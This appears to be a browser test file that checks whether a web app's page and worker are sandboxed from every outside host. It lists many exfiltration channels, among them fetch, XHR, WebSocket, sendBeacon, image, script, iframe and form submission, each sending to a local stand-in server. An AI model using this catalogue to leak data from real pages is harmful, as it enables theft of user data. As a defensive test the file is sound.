// The page that holds user data can reach nobody but its own host: on a host without headers, in the page and its worker.

import assert from "node:assert/strict";
import http from "node:http";
import { after, before, test } from "node:test";
import { facadePage } from "./support/browser.mjs";
import { browser, server, setUp } from "./support/setup.mjs";

/** The ways out of a worker; `from` names who tried. */
const WAYS = `
  const attempts = (target, from) => [
    () => fetch(target + "fetch-" + from, { mode: "no-cors" }),
    () => new Promise((resolve, reject) => {
      const request = new XMLHttpRequest();
      request.onload = resolve;
      request.onerror = reject;
      request.open("POST", target + "xhr-" + from);
      request.send("secret");
    }),
    () => new Promise((resolve, reject) => {
      const socket = new WebSocket(target.replace("http", "ws") + "socket-" + from);
      socket.onopen = resolve;
      socket.onerror = reject;
    }),
    () => new Promise((resolve, reject) => {
      const source = new EventSource(target + "events-" + from);
      source.onopen = resolve;
      source.onerror = () => (source.close(), reject());
    }),
    () => import(target + "import-" + from),
    () => new Promise((resolve, reject) => {
      const worker = new Worker(target + "worker-" + from);
      worker.onerror = reject;
      setTimeout(resolve, 1000);
    }),
  ];
`;
const IN_WORKER = `${WAYS}
  const channel = new BroadcastChannel("ways");
  channel.onmessage = async ({ data: target }) => {
    if (typeof target !== "string") return;
    const tries = await Promise.allSettled(attempts(target, "worker").map(async (attempt) => attempt()));
    channel.postMessage({ tried: tries.length });
  };
`;

setUp({ inject: IN_WORKER });

let elsewhere;
const reached = [];
before(async () => {
  elsewhere = http.createServer((request, response) => {
    reached.push(request.url);
    response.writeHead(200, { "access-control-allow-origin": "*", "content-type": "text/javascript" }).end("0");
  });
  elsewhere.on("upgrade", (request, socket) => (reached.push(request.url), socket.destroy()));
  await new Promise((ready) => elsewhere.listen(0, "127.0.0.1", ready));
});
after(async () => {
  elsewhere?.closeAllConnections();
  elsewhere?.close();
});

const target = () => `http://127.0.0.1:${elsewhere.address().port}/`;

test("without the policy the ways out are open, so that this test tests something", async () => {
  const page = await browser.newPage();
  await page.goto(`${server.origin}/luthier-web/package.json`);
  await page.evaluate(`(() => { ${WAYS} return Promise.allSettled(attempts(${JSON.stringify(target())}, "open").map(async (attempt) => attempt())); })()`);
  for (const way of ["fetch", "xhr", "socket", "events", "import"]) assert.ok(reached.includes(`/${way}-open`), way);
  reached.length = 0;
  await page.close();
});

test("nothing leaves from the page", async () => {
  const page = await facadePage(await browser.newContext(), server);
  await page.evaluate(`(() => { ${WAYS} return Promise.allSettled(attempts(${JSON.stringify(target())}, "page").map(async (attempt) => attempt())); })()`);
  await page.evaluate(async (target) => {
    const element = (name, attributes) => document.body.append(Object.assign(document.createElement(name), attributes));
    navigator.sendBeacon(`${target}beacon`, "secret");
    new Image().src = `${target}image`;
    element("script", { src: `${target}script` });
    element("link", { rel: "stylesheet", href: `${target}style` });
    element("link", { rel: "prefetch", href: `${target}prefetch` });
    element("iframe", { src: `${target}frame` });
    element("video", { src: `${target}video` });
    element("div", { style: `background: url(${target}background)` });
    const form = Object.assign(document.createElement("form"), { action: `${target}form`, method: "post" });
    document.body.append(form);
    form.submit();
    await new Promise((later) => setTimeout(later, 1000));
  }, target());
  assert.deepEqual(reached, []);
  await page.context().close();
});

/** Asks the worker that was started last to try all ways out. */
const tryWorker = (page, start) => page.evaluate(`(async () => {
  await (${start})();
  const channel = new BroadcastChannel("ways");
  const done = new Promise((heard) => (channel.onmessage = ({ data }) => heard(data.tried)));
  channel.postMessage(${JSON.stringify(target())});
  return done;
})()`);

test("nothing leaves from the worker", async () => {
  const page = await facadePage(await browser.newContext(), server);
  assert.equal(await tryWorker(page, "() => Luthier.options()"), 6);
  assert.deepEqual(reached, []);
  await page.context().close();
});

test("which is because it starts from a blob: started from its URL, the same worker is under no policy", async () => {
  const page = await facadePage(await browser.newContext(), server);
  await tryWorker(page, `() => {
    new Worker("../luthier-web/dist/worker.js", { type: "module" });
    return new Promise((later) => setTimeout(later, 1000));
  }`);
  assert.ok(reached.includes("/fetch-worker"), String(reached));
  await page.context().close();
});
